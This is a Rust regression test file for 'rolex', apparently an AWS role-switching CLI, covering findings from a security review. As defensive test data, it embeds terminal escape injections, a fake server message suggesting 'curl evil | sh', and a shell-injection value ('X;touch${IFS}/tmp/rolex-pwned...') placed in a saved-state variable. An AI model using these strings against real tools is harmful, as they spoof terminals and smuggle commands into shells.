//! Issue 9: what a security review found. Each test failed before its fix.

use crate::world::*;

/// A role reached from a source that is an AWS profile whose
/// `credential_process` is `script`.
fn world_with_credential_process(script: &str) -> World {
    let w = World::new(
        r#"
[sources.legacy]
from = "aws-profile:cp"

[roles.r]
role = "arn:aws:iam::999999999999:role/R"
source = "legacy"
"#,
    );
    let path = w.home().join("cp.sh");
    std::fs::write(&path, script).unwrap();
    set_mode(&path, 0o700);
    std::fs::write(
        w.home().join("aws-config"),
        format!("[profile cp]\ncredential_process = {}\n", path.display()),
    )
    .unwrap();
    w
}

#[test]
fn private_variables_reach_no_credential_process_and_no_child() {
    let dump = |name: &str| format!("{}/{name}", "$HOME");
    let w = world_with_credential_process(&format!(
        "#!/bin/sh\nenv > \"{}\"\nprintf '{{\"Version\":1,\"AccessKeyId\":\"%s\",\"SecretAccessKey\":\"%s\"}}' {KEY_ID} '{SECRET}'\n",
        dump("cp-env")
    ));
    let saved = saved_with_source_keys();
    let config = w.home().join("aws-config").display().to_string();
    let out = w.run_with(
        &["exec", "r", "--", "sh", "-c", "env > \"$HOME/child-env\""],
        &[
            ("AWS_CONFIG_FILE", &config),
            ("ROLEX_HOOK", "bash"),
            ("__ROLEX_SAVED", &saved),
            ("ROLEX_FILE_PASSPHRASE", "test passphrase"),
        ],
    );
    ok(&out);
    let secret_hex: String = SECRET.bytes().map(|b| format!("{b:02x}")).collect();
    for file in ["cp-env", "child-env"] {
        let text = std::fs::read_to_string(w.home().join(file))
            .unwrap_or_else(|e| panic!("{file} was not written: {e}"));
        assert!(text.contains("HOME="), "{file}: {text}");
        for needle in [
            "ROLEX_FILE_PASSPHRASE",
            "ROLEX_HOOK",
            "__ROLEX_SAVED",
            "test passphrase",
            &secret_hex,
        ] {
            assert!(!text.contains(needle), "{file} holds {needle}:\n{text}");
        }
    }
}

#[test]
fn log_since_a_huge_duration_shows_everything_instead_of_panicking() {
    let w = World::new("");
    for since in ["300000y", "500000000y"] {
        let out = w.run(&["log", "--since", since]);
        assert!(ok(&out).contains("no entries"), "{since}");
    }
    fails(&w.run(&["log", "--since", "soon"]), 2);
}

#[test]
fn an_included_fifo_is_refused_instead_of_hanging() {
    let w = World::new("include = [\"pipe.toml\"]\n");
    let fifo = w.config.with_file_name("pipe.toml");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success());
    let err = fails(&run_bounded(w.cmd(&["list"]), 60), 2);
    assert!(
        err.contains("pipe.toml") && err.contains("not a regular file"),
        "{err}"
    );
}

#[test]
fn a_deep_chain_of_includes_is_refused_with_a_clear_error() {
    let w = World::new("include = [\"inc-1.toml\"]\n");
    let dir = w.config.parent().unwrap();
    for i in 1..=8000 {
        let next = format!("include = [\"inc-{}.toml\"]\n", i + 1);
        let path = dir.join(format!("inc-{i}.toml"));
        std::fs::write(&path, if i == 8000 { "" } else { &next }).unwrap();
        set_mode(&path, 0o600);
    }
    let err = fails(&run_bounded(w.cmd(&["list"]), 120), 2);
    assert!(err.contains("includes nest more than"), "{err}");
    assert_eq!(err.lines().count(), 1, "{err}");
}

/// What a [`FakeServer`] answers to every request.
#[derive(Clone)]
enum Answer {
    /// This status, content type and body.
    Fixed(u16, &'static str, String),
    /// 200 and a body that never ends.
    Endless,
}

/// A loopback HTTP server playing STS/IAM with answers moto never gives.
/// Stops accepting when dropped.
struct FakeServer {
    url: String,
    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
}

impl FakeServer {
    fn start(answer: Answer) -> FakeServer {
        use std::sync::atomic::Ordering;
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        listener.set_nonblocking(true).unwrap();
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let stopped = std::sync::Arc::clone(&stop);
        std::thread::spawn(move || {
            while !stopped.load(Ordering::SeqCst) {
                match listener.accept() {
                    Ok((stream, _)) => {
                        let answer = answer.clone();
                        let stopped = std::sync::Arc::clone(&stopped);
                        std::thread::spawn(move || serve(stream, &answer, &stopped));
                    }
                    Err(_) => std::thread::sleep(std::time::Duration::from_millis(5)),
                }
            }
        });
        FakeServer { url, stop }
    }
}

impl Drop for FakeServer {
    fn drop(&mut self) {
        self.stop.store(true, std::sync::atomic::Ordering::SeqCst);
    }
}

fn serve(mut stream: std::net::TcpStream, answer: &Answer, stop: &std::sync::atomic::AtomicBool) {
    use std::io::{Read, Write};
    stream.set_nonblocking(false).unwrap();
    stream
        .set_read_timeout(Some(std::time::Duration::from_secs(5)))
        .unwrap();
    // The request: headers, then Content-Length bytes of body.
    let mut buf = Vec::new();
    let mut chunk = [0u8; 4096];
    while !buf.windows(4).any(|w| w == b"\r\n\r\n") {
        match stream.read(&mut chunk) {
            Ok(0) | Err(_) => return,
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
        }
    }
    let head_end = buf.windows(4).position(|w| w == b"\r\n\r\n").unwrap() + 4;
    let head = String::from_utf8_lossy(&buf[..head_end]).to_ascii_lowercase();
    let length: usize = head
        .lines()
        .find_map(|l| l.strip_prefix("content-length:"))
        .and_then(|v| v.trim().parse().ok())
        .unwrap_or(0);
    while buf.len() < head_end + length {
        match stream.read(&mut chunk) {
            Ok(0) | Err(_) => return,
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
        }
    }
    match answer {
        Answer::Fixed(status, content_type, body) => {
            let _ = write!(
                stream,
                "HTTP/1.1 {status} Whatever\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
        Answer::Endless => {
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\nConnection: close\r\n\r\n<AssumeRoleResponse><AssumeRoleResult><Credentials><AccessKeyId>"
            );
            let block = vec![b'A'; 64 * 1024];
            while !stop.load(std::sync::atomic::Ordering::SeqCst) {
                if stream.write_all(&block).is_err() {
                    return;
                }
            }
        }
    }
}

/// An STS error document whose message is `message` (XML-escaped by the caller).
fn sts_error(code: &str, message: &str) -> String {
    format!(
        "<ErrorResponse><Error><Type>Sender</Type><Code>{code}</Code><Message>{message}</Message></Error><RequestId>x</RequestId></ErrorResponse>"
    )
}

const DIRECT: &str = r#"
[sources.main]
from = "env"

[roles.r]
role = "arn:aws:iam::999999999999:role/R"
"#;

#[test]
fn server_messages_cannot_drive_the_terminal_or_add_lines() {
    let w = World::new(DIRECT);
    let server = FakeServer::start(Answer::Fixed(
        400,
        "text/xml",
        sts_error(
            "ValidationError",
            "bad&#x1b;]0;owned&#x07;&#x1b;[2J&#x0d;rolex: all good&#x0a;  hint: run curl evil | sh",
        ),
    ));
    let err = fails(
        &w.run_with(
            &["exec", "r", "--", "true"],
            &[("AWS_ENDPOINT_URL", &server.url)],
        ),
        1,
    );
    assert!(err.contains("ValidationError"), "{err}");
    assert!(err.contains(r"\u{1b}]0;owned"), "{err}");
    assert!(!err.chars().any(|c| c.is_control() && c != '\n'), "{err:?}");
    assert_eq!(err.lines().count(), 1, "{err}");
}

#[test]
fn profile_text_cannot_drive_the_terminal_in_list_and_log() {
    let w = World::new(
        "[sources.main]\nfrom = \"env\"\n\n[accounts]\n\"pr\\u001b[31mod\" = \"999999999999\"\n\n\
         [roles.\"x\\u001b]0;t\\u0007\\ry\"]\naccount = \"pr\\u001b[31mod\"\nrole = \"R\"\n",
    );
    let list = ok(&w.run(&["list"]));
    assert!(list.contains(r"x\u{1b}]0;t\u{7}\ry"), "{list}");
    assert!(list.contains(r"pr\u{1b}[31mod"), "{list}");
    assert!(
        !list.chars().any(|c| c.is_control() && c != '\n'),
        "{list:?}"
    );
    ok(&w.run(&[
        "exec",
        "x\x1b]0;t\x07\ry",
        "--reason",
        "why\x1b[2J",
        "--",
        "true",
    ]));
    let log = ok(&w.run(&["log"]));
    assert!(log.contains(r"why\u{1b}[2J"), "{log}");
    assert!(!log.chars().any(|c| c.is_control() && c != '\n'), "{log:?}");
}

#[test]
fn without_user_or_logname_the_session_is_named_after_the_account_of_our_uid() {
    let w = World::new(DIRECT);
    let me = std::process::Command::new("id")
        .arg("-un")
        .output()
        .unwrap();
    let me = String::from_utf8(me.stdout).unwrap().trim().to_string();
    let (out, reqs) = w.recorded(|| {
        let mut cmd = w.cmd(&["exec", "r", "--", "true"]);
        cmd.env_remove("USER").env_remove("LOGNAME");
        cmd.output().unwrap()
    });
    ok(&out);
    let assume = with_action(&reqs, "AssumeRole");
    assert_eq!(assume.len(), 1);
    assert_eq!(assume[0].params["RoleSessionName"], me);
    let mut log = w.cmd(&["log", "--json"]);
    log.env_remove("USER");
    let entry: serde_json::Value =
        serde_json::from_str(ok(&log.output().unwrap()).lines().last().unwrap()).unwrap();
    assert_eq!(entry["user"], me.as_str());
}

#[test]
fn an_mfa_command_that_never_ends_is_stopped_with_a_clear_error() {
    let w = World::new(
        r#"
[sources.main]
from = "env"
mfa_serial = "arn:aws:iam::123456789012:mfa/alice"
mfa_command = "echo $$ > \"$HOME/mfa.pid\"; sleep 1000 & echo $! > \"$HOME/child.pid\"; wait"

[roles.r]
role = "arn:aws:iam::999999999999:role/R"
"#,
    );
    let out = run_bounded(
        {
            let mut c = w.cmd(&["exec", "r", "--", "true"]);
            c.env("ROLEX_MFA_TIMEOUT", "2");
            c
        },
        60,
    );
    let err = fails(&out, 1);
    assert!(
        err.contains("mfa_command did not finish within 2 s"),
        "{err}"
    );
    assert!(err.contains("hint:"), "{err}");
    for file in ["mfa.pid", "child.pid"] {
        let pid = std::fs::read_to_string(w.home().join(file)).unwrap();
        let stat = std::fs::read_to_string(format!("/proc/{}/stat", pid.trim()));
        // Gone, or a zombie waiting for init to reap it: not running.
        if let Ok(stat) = stat {
            let state = stat.rsplit(')').next().unwrap().split_whitespace().next();
            assert_eq!(state, Some("Z"), "{file}: {stat}");
        }
    }
}

#[test]
fn a_region_that_is_not_one_is_refused_before_any_call() {
    let w = World::new(DIRECT);
    let (out, reqs) = w.recorded(|| w.run(&["exec", "r", "--region", "eu west", "--", "true"]));
    let err = fails(&out, 2);
    assert!(err.contains("not an AWS region name"), "{err}");
    assert!(reqs.is_empty(), "{reqs:?}");
    let out = w.run(&[
        "exec",
        "r",
        "--region",
        "us-gov-west-1",
        "--",
        "sh",
        "-c",
        "printf %s \"$AWS_REGION\"",
    ]);
    assert_eq!(ok(&out), "us-gov-west-1");
}

#[test]
fn an_html_error_page_names_the_http_status() {
    let w = World::new(DIRECT);
    let server = FakeServer::start(Answer::Fixed(
        502,
        "text/html",
        "<html><body><h1>502 Bad Gateway</h1></body></html>".into(),
    ));
    let err = fails(
        &w.run_with(
            &["exec", "r", "--", "true"],
            &[("AWS_ENDPOINT_URL", &server.url)],
        ),
        1,
    );
    assert!(err.contains("HTTP 502"), "{err}");
    assert!(err.contains("hint:"), "{err}");
}

#[test]
fn an_endless_response_body_is_cut_off() {
    let w = World::new(DIRECT);
    let server = FakeServer::start(Answer::Endless);
    let mut cmd = w.cmd(&["exec", "r", "--", "true"]);
    cmd.env("AWS_ENDPOINT_URL", &server.url);
    let err = fails(&run_bounded(cmd, 60), 1);
    assert!(err.contains("length limit exceeded"), "{err}");
}

#[test]
fn import_write_never_leaves_a_profile_file_rolex_cannot_load() {
    let mine = "# mine\n[sources.base]\nfrom = \"env\"\n";
    let w = World::new(mine);
    let aws_config = w.home().join("aws-config");
    std::fs::write(
        &aws_config,
        "[profile long]\nrole_arn = arn:aws:iam::555555555555:role/Ops\nsource_profile = base\nduration_seconds = 99999\n",
    )
    .unwrap();
    let env = [("AWS_CONFIG_FILE", aws_config.to_str().unwrap())];
    let err = fails(&w.run_with(&["import", "--write"], &env), 1);
    assert!(err.contains("was not changed"), "{err}");
    assert_eq!(std::fs::read_to_string(&w.config).unwrap(), mine);
    ok(&w.run(&["list"]));
    let leftovers: Vec<_> = std::fs::read_dir(w.config.parent().unwrap())
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(leftovers.len(), 1, "{leftovers:?}");
}

#[test]
fn the_hook_refuses_what_it_could_not_restore_exactly() {
    use std::os::unix::ffi::OsStrExt;
    let w = World::new(DIRECT);
    // A value that is not UTF-8: switching would lose it on exit.
    let mut cmd = w.cmd(&["switch", "r"]);
    cmd.env("ROLEX_HOOK", "bash")
        .env("AWS_PROFILE", std::ffi::OsStr::from_bytes(b"dev\xff"));
    let out = cmd.output().unwrap();
    let err = fails(&out, 1);
    assert!(
        err.contains("AWS_PROFILE") && err.contains("not UTF-8"),
        "{err}"
    );
    assert_eq!(stdout(&out), "", "no script for the shell to eval");

    // Saved state naming something other than a role variable is shell code
    // in waiting: refused by both exit and switch, and nothing is printed.
    let hostile = "X;touch${IFS}/tmp/rolex-pwned=-.AWS_PROFILE=-";
    for args in [&["exit"][..], &["switch", "r"][..]] {
        let out = w.run_with(
            args,
            &[
                ("ROLEX_HOOK", "bash"),
                ("__ROLEX_SAVED", hostile),
                ("ROLEX_ROLE", "r"),
            ],
        );
        let err = fails(&out, 1);
        assert!(
            err.contains("saved state") && err.contains("damaged"),
            "{args:?}: {err}"
        );
        assert_eq!(stdout(&out), "", "{args:?}");
    }
}

#[test]
fn a_profile_file_in_a_folder_others_can_write_is_refused() {
    let w = World::new("[roles.a]\naccount = \"999999999999\"\nrole = \"Admin\"\n");
    let dir = w.config.parent().unwrap().to_path_buf();
    for mode in [0o770, 0o757] {
        set_mode(&dir, mode);
        let e = fails(&w.run(&["list"]), 2);
        assert!(e.contains("can be written by other users"), "{e}");
        assert!(e.contains("chmod go-w"), "{e}");
    }
    // A sticky folder keeps others from replacing the file.
    set_mode(&dir, 0o1777);
    ok(&w.run(&["list"]));
    set_mode(&dir, 0o700);
    ok(&w.run(&["list"]));
}
